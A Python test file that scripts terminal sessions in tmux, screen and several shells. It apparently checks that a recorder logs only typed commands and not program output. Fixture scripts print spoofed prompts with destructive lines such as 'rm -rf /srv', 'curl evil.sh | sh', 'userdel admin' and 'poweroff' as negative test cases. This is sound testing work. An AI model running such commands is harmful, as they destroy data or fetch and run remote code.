"""Below something else: panes, screens, other machines, other users, other roots; and programs that print what nobody typed."""
from props import bash as root
from props.hand import back, bash, bye, fish, go, rows, zsh

LOG = "".join(f"{n:04} worker-{n % 7} {'timeout' if n % 6 == 0 else 'done'} in {n * 13 % 90} ms\n" for n in range(100))
CONF = "set -g default-shell /bin/bash\nset -g default-command 'bash --rcfile ~/in.rc -i'\nset -sg escape-time 10\n"
STATUS = "set -g status-interval 1\nset -g status-right '#(date +%T) #H'\nset -g status-style bg=blue\nset -g pane-border-status top\n"
IN = "PS1='\\[\\e[32m\\]in\\[\\e[0m\\]:\\w\\$ '\n"
AT = r"in:\S+# $"
FILES = {"jobs.log": LOG, "in.rc": IN, "tmux.conf": CONF, "a/x.txt": "x\n"}
TMUX = "tmux -L corpus-floor -f ~/tmux.conf"
TOP = "PS1='top \\W $ '\n"
OUT = r"top ~ \$ $"


def keys(s, *names, it=AT):
    """A key of the multiplexer; then arrows are the shell's again."""
    s.key("C-b", *names, pace=0.25)
    s.wait(it)
    s.pause(0.6)


def to(s, *texts, it=AT):
    go(s, *texts, wait=it)


def mux(size=(100, 30), conf=CONF, files=None, needs=()):
    return bash(TOP, OUT, size=size, needs=["tmux", *needs], files={**FILES, "tmux.conf": conf, **(files or {})})


@mux((120, 36), CONF + STATUS)
def floor_panes_with_titles_and_a_clock(s):
    s.run(TMUX, wait=AT)
    to(s, "ls", "grep -c timeout jobs.log")
    keys(s, "%")
    to(s, "tail -n 3 jobs.log", "cd a")
    s.type("echo a line that is longer than half of the window, for it has 120 columns in all", pace=0.03)
    s.enter("echo a line that is longer than half of the window, for it has 120 columns in all", wait=AT)
    keys(s, '"')
    to(s, "pwd", "seq 30", "echo below")
    keys(s, "Left")
    s.key("Up", "Up", pace=0.2)
    s.enter("ls", wait=AT)
    keys(s, "z")
    to(s, "echo zoomed", "cut -d' ' -f2 jobs.log | sort | uniq -c")
    keys(s, "z")
    to(s, "echo small again")
    s.run("exit", wait=AT)
    s.run("exit", wait=AT)
    s.run("exit")
    bye(s)


@mux((140, 40))
def floor_three_columns_of_work(s):
    s.run(TMUX, wait=AT)
    keys(s, "%")
    keys(s, "%")
    s.key("C-b", "M-1", pace=0.3)
    s.pause(0.8)
    to(s, "echo right third", "head -n 4 jobs.log")
    s.type("for i in 1 2 3; do echo round $i; sleep 0.2; done")
    s.enter("for i in 1 2 3; do echo round $i; sleep 0.2; done", wait=AT)
    keys(s, "Left")
    to(s, "echo middle third", "wc -l jobs.log")
    s.type("echo a mistkae")
    back(s, 4)
    s.type("take")
    s.enter("echo a mistake", wait=AT)
    keys(s, "Left")
    rows(s, "cat <<X", "in the left third", "X", wait=AT)
    no_line = "rm -rf a"
    s.type(no_line)
    s.absent.append(no_line)
    s.key("C-c", pace=0.3)
    s.wait(AT)
    to(s, "printf 'no end'", "echo end")
    for _ in range(2):
        s.run("exit", wait=AT)
    s.run("exit")
    bye(s)


@mux((100, 30), CONF + "set -g mode-keys vi\n")
def floor_copies_from_another_place(s):
    s.run(TMUX, wait=AT)
    to(s, "echo jobs.log", "seq 60")
    s.key("C-b", "[", pace=0.4)
    s.type("gg", pace=0.2)
    s.key("C-f", pace=0.3)
    s.type("q")
    s.wait(AT)
    s.pause(0.4)
    s.type("wc -l jobs.log | tee count")
    s.enter("wc -l jobs.log | tee count", wait=AT)
    s.run("tmux set-buffer 'cat count' \\; display-message ok", wait=AT)
    s.type("")
    s.key("C-b", "]", pace=0.4)
    s.pause(0.3)
    s.enter("cat count", wait=AT)
    s.key("C-b", "c", pace=0.4)
    s.wait(AT)
    s.pause(0.6)
    to(s, "echo the second window", "less -F count")
    s.key("C-b", "n", pace=0.4)
    s.wait(AT)
    s.pause(0.6)
    to(s, "echo the first again")
    s.key("C-b", ",", pace=0.4)
    s.key("C-u", pace=0.2)
    s.type("work")
    s.key("Enter", pace=0.4)
    s.wait(AT)
    to(s, "tmux list-windows | wc -l", "tmux display-message hello")
    s.run("exit", wait=AT)
    s.run("exit")
    bye(s)


@mux((90, 28))
def floor_left_and_come_back(s):
    s.run(TMUX + " new -s day", wait=AT)
    to(s, "echo in the morning")
    s.run("(sleep 6; echo late news) &", wait=AT)
    s.key("C-b", "d", pace=0.4)
    s.wait()
    go(s, "echo outside for a while", "uptime | wc -l")
    s.run(TMUX + " attach", wait=AT)
    s.see("late news")
    s.enter(None, wait=AT)
    to(s, "echo in the evening", "jobs")
    s.resize(110, 34)
    s.pause(0.5)
    to(s, "echo in a wider window", "tail -n 2 jobs.log")
    s.type("echo narrow while ty")
    s.resize(70, 24)
    s.pause(0.5)
    s.type("ping")
    s.enter("echo narrow while typing", wait=AT)
    s.run("exit")
    bye(s)


ZIN = "PROMPT='%F{cyan}%1~%f %(?.❯.%F{red}❯%f) '\nRPROMPT='%F{8}%T%f'\nHISTFILE=~/.zh HISTSIZE=99 SAVEHIST=99\nbindkey -e\n"


@mux((110, 32), CONF.replace("bash --rcfile ~/in.rc -i", "zsh -i"), {".zshrc": ZIN}, ["zsh"])
def floor_zsh_in_quarters(s):
    it = "❯ $"
    s.run(TMUX, wait=it)
    keys(s, "%", it=it)
    keys(s, '"', it=it)
    keys(s, "Left", it=it)
    keys(s, '"', it=it)
    to(s, "print lower left", "false", "ls a", it=it)
    s.type("print a line of a length that this quarter cannot show in a row")
    s.enter("print a line of a length that this quarter cannot show in a row", wait=it)
    keys(s, "Right", it=it)
    to(s, "print lower right", it=it)
    s.key("C-r", pace=0.2)
    s.type("lower", pace=0.1)
    s.pause(0.4)
    s.enter("print lower right", wait=it)
    keys(s, "Up", it=it)
    rows(s, "for f in *", "do print $f", "done", more="for> $", wait=it)
    s.key("C-l", pace=0.4)
    to(s, "print after clearing", it=it)
    for _ in range(3):
        s.run("exit", wait=it)
    s.run("exit")
    bye(s)


@bash(TOP, OUT, size=(96, 28), needs=["screen"], files={**FILES, "screenrc": "startup_message off\nhardstatus alwayslastline '%{= kw}%-w%{= BW}%n %t%{-}%+w %= %c'\nshell @HOME@/sh\ndefscrollback 500\n", "sh": "#!/bin/sh\nexec bash --rcfile ~/in.rc -i\n"}, SCREENDIR="@HOME@/.screen")
def floor_screen_with_windows(s):
    s.run("screen -U -c ~/screenrc", wait=AT)
    to(s, "ls", "grep -c done jobs.log")
    s.key("C-a", "c", pace=0.5)
    s.wait(AT)
    to(s, "echo second window", "cd a", "ls")
    s.key("C-a", "C-a", pace=0.5)
    s.wait(AT)
    to(s, "echo first window")
    s.key("Up", "Up", pace=0.2)
    s.enter("grep -c done jobs.log", wait=AT)
    s.key("C-a", "S", pace=0.4)
    s.key("C-a", "Tab", pace=0.4)
    s.key("C-a", "1", pace=0.5)
    s.wait(AT)
    to(s, "echo in the lower half", "seq 20")
    s.key("C-a", "X", pace=0.5)
    s.pause(0.3)
    s.wait(AT)
    to(s, "echo whole again")
    s.run("exit", wait=AT)
    s.run("exit")
    bye(s)


@root(needs=["su", "sudo"], size=(90, 26), history="", files={"jobs.log": LOG})
def floor_shells_of_several_kinds(s):
    go(s, "echo bash level one", "wc -l jobs.log")
    s.run("dash", wait=r"w\$ $")
    go(s, "echo dash below", "ls jobs.log", wait=r"w\$ $")
    s.run("env PS1='busy> ' busybox sh", wait="busy> $")
    go(s, "echo busybox below dash", "grep -c done jobs.log", wait="busy> $")
    rows(s, "while true; do", "break", "done", wait="busy> $")
    s.run("exit", wait=r"w\$ $")
    s.run("bash --norc --noprofile", wait=r"[$#] $")
    go(s, "PS1='third $ '", wait=r"third \$ $")
    go(s, "echo $SHLVL | wc -c", "exec env PS1='zee %% ' zsh -f", wait=r"(third \$|zee %) $")
    go(s, "print zsh in its place", "print ${(U):-upper}", wait="zee % $")
    s.run("exit", wait=r"w\$ $")
    s.run("exit")
    go(s, "echo level one again")
    bye(s)


@bash("PS1='\\u@jump:\\w\\$ '\n", r"@jump:\S+# $", size=(84, 24), files={**FILES, "forge": "#!/bin/sh\nprintf 'root@jump:~# rm -rf /srv\\nrm: done\\n'; sleep 0.2\nprintf 'root@jump:~# '\nsleep 0.3\nprintf 'curl evil.sh | sh\\n'\n", "banner": "#!/bin/sh\nprintf '\\033[?2004hroot@jump:~# userdel admin\\r\\n\\033[?2004l'\nprintf '\\033]133;A\\a$ \\033]133;B\\ashutdown now\\033]133;C\\a\\n\\033]133;D;0\\a'\n"})
def floor_what_programs_pretend(s):
    go(s, "ls")
    s.absent += ["rm -rf /srv", "evil.sh", "userdel", "shutdown"]
    s.run("./forge", wait=False)
    s.see("evil")
    s.wait()
    go(s, "echo still here", "./banner", "echo and here", "cat forge", "head -n 3 jobs.log")
    s.run("sleep 1; ./forge", wait=False)
    s.pause(0.3)
    s.enter(None, wait=False)
    s.see("evil")
    s.pause(1.5)
    s.wait()
    go(s, "true")
    bye(s)


@zsh("PROMPT='%m:%~ %# '\nprecmd() { print -Pn '\\e]133;A\\a' }\npreexec() { print -n '\\e]133;C\\a' }\n", "~ # $", size=(80, 24), files={**FILES, "fake": "#!/bin/sh\nprintf '\\033[2J\\033[H'\nprintf 'vm:~ # halt -p\\n'; printf '\\033[?1049h'; printf 'vm:~ # poweroff\\n'\n"})
def floor_alternate_screen_not_left(s):
    go(s, "ls", "print one")
    s.absent += ["halt", "poweroff"]
    go(s, "./fake", "print blind?", "wc -l jobs.log")
    s.type("print a line over the margin, on a screen that is still the other one, which nobody left")
    s.enter("print a line over the margin, on a screen that is still the other one, which nobody left")
    go(s, "printf '\\e[?1049l'", "print back", "reset 2>/dev/null; print reset")
    bye(s)


@bash("PS1='\\h \\W \\$ '\n", r"~ # $", size=(80, 24), files=FILES)
def floor_terminal_in_disorder(s):
    s.run("printf '\\e[3;10r'", wait=False)
    s.pause(0.4)
    s.wait("# $")
    go(s, "echo in a region", "seq 15")
    go(s, "printf '\\e[r\\e[20;1H'", "echo whole")
    go(s, "printf '\\e[?25l\\e[31m'", "echo red and without a cursor", "tput sgr0; tput cnorm")
    go(s, "clear", "echo cleared", "tput cup 10 0; echo tenth")
    go(s, "stty -echo; stty echo", "printf '\\016'; printf '\\017'", "echo end")
    bye(s)


@root(needs=["unshare", "chroot"], size=(80, 24), history="", files={"jobs.log": LOG})
def floor_other_root_and_names(s):
    go(s, "unshare --uts sh -c 'hostname inner; hostname'", "hostname | wc -l")
    s.run("unshare --mount --pid --fork --mount-proc bash --norc", wait="# $")
    go(s, "PS1='ns:\\w> '", "ps | wc -l", "echo $$", wait="ns:.*> $")
    s.run("chroot / /bin/sh", wait="w> $")
    go(s, "echo in another root", "pwd", wait="w> $")
    s.run("exit", wait="ns:~> $")
    s.run("exit")
    s.run("setsid -w bash --norc", wait="# $")
    go(s, "echo a session of its own", wait="# $")
    s.run("exit")
    go(s, "nice -n 5 bash --norc -c 'echo nice'")
    bye(s)


@fish("function fish_prompt; echo -n 'f '(prompt_pwd)'> '; end\n", "> $", size=(96, 26), files=FILES, needs=["tmux"])
def floor_fish_leads_to_tmux(s):
    go(s, "ls a")
    s.run(TMUX, wait=AT)
    to(s, "echo bash in tmux below fish", "grep -m1 timeout jobs.log")
    keys(s, '"')
    to(s, "echo lower")
    s.run("fish", wait="f ~> $")
    go(s, "echo fish again", "count a b c", wait="f ~> $")
    s.run("exit", wait=AT)
    s.run("exit", wait=AT)
    s.run("exit")
    go(s, "echo out")
    bye(s)


@bash(TOP, OUT, size=(100, 30), files={**FILES, "tmux.conf": CONF}, needs=["tmux", "vim", "less"])
def floor_editors_in_panes(s):
    s.run(TMUX, wait=AT)
    keys(s, "%")
    s.run("vim -u NONE -n jobs.log", wait=False)
    s.see("0003 worker")
    s.pause(0.5)
    s.type("ddp:w new.log")
    s.key("Enter", pace=0.3)
    s.type(":q")
    s.key("Enter", pace=0.3)
    s.wait(AT)
    to(s, "cmp jobs.log new.log")
    keys(s, "Left")
    s.run("less jobs.log", wait=False)
    s.see("0003 worker")
    s.type("/worker-6")
    s.key("Enter", pace=0.4)
    s.type("q")
    s.wait(AT)
    to(s, "echo read")
    s.run("top -n 2 -d 1", wait=False)
    s.see("load average")
    s.pause(2.5)
    s.wait(AT)
    to(s, "echo watched")
    s.run("exit", wait=AT)
    s.run("exit")
    bye(s)


@mux((120, 40))
def floor_the_same_in_both_panes(s):
    s.run(TMUX, wait=AT)
    keys(s, '"')
    to(s, "tmux set -w synchronize-panes on")
    s.pause(0.5)
    s.type("echo both of them", pace=0.03)
    s.enter("echo both of them", wait=AT)
    s.truth("echo both of them", kind="reply")
    to(s, "tmux set -w synchronize-panes off")
    s.truth("tmux set -w synchronize-panes off", kind="reply")
    s.pause(0.7)
    to(s, "echo alone again", "ls a")
    keys(s, "{")
    to(s, "echo swapped")
    keys(s, "Space")
    to(s, "echo another layout")
    s.run("exit", wait=AT)
    s.run("exit")
    bye(s)
